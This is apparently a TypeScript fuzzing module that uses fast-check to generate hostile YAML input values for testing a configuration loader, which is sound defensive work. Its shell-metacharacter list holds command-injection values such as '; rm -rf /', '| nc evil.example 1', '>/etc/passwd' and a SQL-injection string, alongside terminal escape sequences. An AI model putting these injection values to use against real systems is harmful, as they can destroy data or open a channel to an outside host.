import fc from 'fast-check';

/**
 * Values a careless or hostile person could put in a YAML file, as plain data the `yaml` package
 * can stringify: wrong types, huge and tiny numbers, unicode and control characters, shell
 * metacharacters, and strings that look like other types or like paths.
 */

/** Shell syntax that must never reach a shell unquoted. */
export const SHELL_METACHARACTERS = [
  '$(touch /tmp/dbwave-fuzz-pwned)',
  '`id`',
  '; rm -rf /',
  '| nc evil.example 1',
  '&& reboot',
  "' OR '1'='1",
  '"; exit 1; "',
  '$IFS$9',
  '\\',
  '>/etc/passwd',
  '{{name}}',
  '{{vars.nope}}',
  '{{',
  '}}',
  '%s%n',
  '*',
  '~root',
  '!',
  '#',
] as const;

/** C0 controls and DEL, the bytes that move a terminal's cursor or change its colours. */
export const CONTROL_CHARACTERS = [
  '\u0000',
  '\u0007',
  '\u0008',
  '\u001b',
  '\u001b[31m',
  '\u001b]0;pwned\u0007',
  '\r',
  '\u000b',
  '\u000c',
  '\u007f',
  '\u009b',
] as const;

/** Unicode that renders oddly or tricks the eye. */
const UNICODE = [
  '\u202e',
  '\u200b',
  '\ufeff',
  '\u0301',
  'é',
  'ß',
  'İ',
  'ﬁ',
  '日本語',
  '🦀',
  '\ud800',
  '\u2028',
  'Ω',
] as const;

/** Strings that a schema might mistake for another type, or a loader for a path. */
const LOOKALIKES = [
  '',
  ' ',
  'true',
  'null',
  '~',
  '0',
  '-1',
  '1e400',
  '0x1F',
  '2011-09-20',
  '2011-02-30',
  '10m',
  '-10m',
  '0m',
  '99999999999h',
  '50%',
  '1000%',
  'rest',
  '09:00',
  '24:00',
  'UTC',
  'Mars/Olympus_Mons',
  '..',
  '.',
  '/dev/zero',
  '/dev/null',
  'fleet/alpha.yaml',
  'campaign.yaml',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
] as const;

const NUMBERS = [
  0,
  -0,
  1,
  -1,
  0.5,
  2 ** 31,
  2 ** 53 + 2,
  -(2 ** 53),
  1e21,
  1e308,
  -1e308,
  5e-324,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
  Number.NaN,
  65536,
] as const;

/** A short hostile string: a mix of the pieces above and random text. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...SHELL_METACHARACTERS),
  fc.constantFrom(...CONTROL_CHARACTERS),
  fc.constantFrom(...UNICODE),
  fc.constantFrom(...LOOKALIKES),
  fc.string({ maxLength: 12 }),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc
    .array(
      fc.oneof(
        fc.constantFrom(...SHELL_METACHARACTERS, ...CONTROL_CHARACTERS, ...UNICODE, ...LOOKALIKES),
        fc.string({ maxLength: 4 }),
      ),
      { minLength: 2, maxLength: 4 },
    )
    .map((parts) => parts.join('')),
);

/** A string past the 64 Ki-character limit, now and then: it must be refused, quickly. */
const overlongString = fc
  .constantFrom(65_537, 200_000)
  .chain((length) => fc.constantFrom('x', '\u001b', '日').map((unit) => unit.repeat(length)));

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(...NUMBERS),
  fc.integer(),
  fc.double(),
);

const hostileScalar: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 6 },
  { arbitrary: hostileNumber, weight: 3 },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.constant(null), weight: 1 },
  { arbitrary: fc.date({ noInvalidDate: true }), weight: 1 },
  { arbitrary: overlongString, weight: 1 },
);

/** Any hostile value: a scalar, or a small list or mapping of them (a wrong shape). */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileScalar, weight: 6 },
  { arbitrary: fc.array(hostileScalar, { maxLength: 3 }), weight: 1 },
  { arbitrary: fc.dictionary(hostileString, hostileScalar, { maxKeys: 3 }), weight: 1 },
);
